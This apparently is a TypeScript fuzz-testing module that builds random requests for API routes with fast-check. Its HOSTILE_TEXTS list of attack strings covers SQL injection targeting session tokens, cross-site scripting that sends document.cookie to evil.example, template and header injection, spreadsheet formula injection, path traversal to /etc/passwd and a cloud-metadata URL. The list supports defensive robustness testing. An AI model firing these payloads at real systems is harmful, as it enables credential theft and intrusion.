import fc from "fast-check";

/** What no store can keep as it is. */
export const UNSOUND_TEXTS = ["\ud800", "a\udfffb", "nul\0"] as const;

/** Each means something to whoever reads it as more than text. */
export const HOSTILE_TEXTS = [
  "",
  "0",
  "-1",
  "1e999",
  "null",
  "[]",
  "{}",
  "%",
  "NaN",
  "__proto__",
  "constructor",
  "'; drop table profiles; --",
  "' or 1=1 union select token_hash from sessions --",
  "\u0000\u0001\u001b[31m",
  '"><img src=x onerror=alert(1)><svg/onload=alert(1)>',
  "<script>fetch('//evil.example?'+document.cookie)</script>",
  "</title></textarea></style><math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
  "a\r\nSet-Cookie: session=evil\r\n\r\n<html>",
  '=HYPERLINK("//evil.example","x");=1+1',
  "＝1+1;＋2",
  "//evil.example/;=cmd|' /C calc'!A0",
  "../../../../etc/passwd",
  "..%2f..%5c..%c0%ae%c0%ae/",
  "javascript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD4=",
  "\\\\evil.example\\share",
  "http://169.254.169.254/latest/meta-data/",
  "file:///etc/passwd",
  "\u202egnp.exe",
  "İıſKﬁ\u{1f468}\u200d\u{1f469}\u0301\u0301\u0301",
  "9".repeat(400),
  "2026-02-30T25:61:61.999Z",
  "+275760-09-13T00:00:00.001Z",
] as const;

const text = fc.oneof(
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.json({ maxDepth: 2 }),
  fc.uuid(),
);

const names = fc.oneof(
  fc.constantFrom("cursor", "limit", "sort", "q", "scope", "state", "role"),
  text,
);

/** As our own look, with anything in it: a list by date may be handed the marker of one by name. */
const pageMarker = fc
  .tuple(fc.oneof(text, fc.double(), fc.constant(null)), text)
  .map((marker): [string, string] => ["cursor", JSON.stringify(marker)]);

/** What may be sent to any route, whatever that route is. */
export const randomRequests = fc.record({
  id: text,
  query: fc.array(fc.oneof(fc.tuple(names, text), pageMarker), { maxLength: 4 }),
  body: fc.oneof(fc.jsonValue({ maxDepth: 3 }), signInLike()),
  ifMatch: fc.oneof(fc.constantFrom('"1"', 'W/"2"', '"x"', "*"), fc.constant("")),
});

export type RandomRequest = typeof randomRequests extends fc.Arbitrary<infer Value> ? Value : never;

function signInLike() {
  const value = fc.oneof(text, fc.jsonValue({ maxDepth: 1 }));
  return fc.record({ email: value, password: value }, { requiredKeys: [] });
}
